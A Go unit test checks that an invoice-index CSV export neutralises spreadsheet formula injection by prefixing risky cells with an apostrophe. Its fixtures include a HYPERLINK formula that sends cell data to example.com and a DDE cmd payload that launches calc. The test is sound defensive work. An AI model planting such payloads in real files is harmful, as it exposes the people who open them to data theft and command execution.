package export

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

// TestIndexLineFormulas: what a supplier writes in its XML reaches the
// index as text a spreadsheet does not run: a cell that starts like a
// formula gets a leading apostrophe, in every text column; the amounts
// keep a leading minus when they are plain numbers.
func TestIndexLineFormulas(t *testing.T) {
	var buf bytes.Buffer
	r := &run{csv: csv.NewWriter(&buf)}
	r.csv.UseCRLF = true
	l := indexLine{origen: OrigenRecibido, tipo: "01", clave: "50601042600310112345600100001010000000099100000099",
		emisorID: "-3101123456", emisorNombre: `=HYPERLINK("http://example.com/?"&A1,"Ver")`,
		receptorID: "3101654321", receptorNombre: "@SUM(1+1)*cmd|' /C calc'!A0",
		moneda: "+CRC", impuesto: "-12.50", total: "=1+1", mensaje: "1", consecutivoMensaje: "\t=2"}
	if err := r.line(l); err != nil {
		t.Fatal(err)
	}
	r.csv.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) string { return rec[slices.Index(IndexColumns, name)] }
	want := map[string]string{
		"origen": OrigenRecibido, "clave": l.clave, "receptorIdentificacion": "3101654321",
		"emisorIdentificacion": "'-3101123456",
		"emisorNombre":         `'=HYPERLINK("http://example.com/?"&A1,"Ver")`,
		"receptorNombre":       "'@SUM(1+1)*cmd|' /C calc'!A0",
		"moneda":               "'+CRC",
		"totalImpuesto":        "-12.50",
		"totalComprobante":     "'=1+1",
		"consecutivoMensaje":   "'\t=2",
	}
	for k, v := range want {
		if got := col(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
	if IndexColumns[indexTotalImpuesto] != "totalImpuesto" || IndexColumns[indexTotalComprobante] != "totalComprobante" {
		t.Errorf("the amount columns moved: %v", IndexColumns)
	}
}
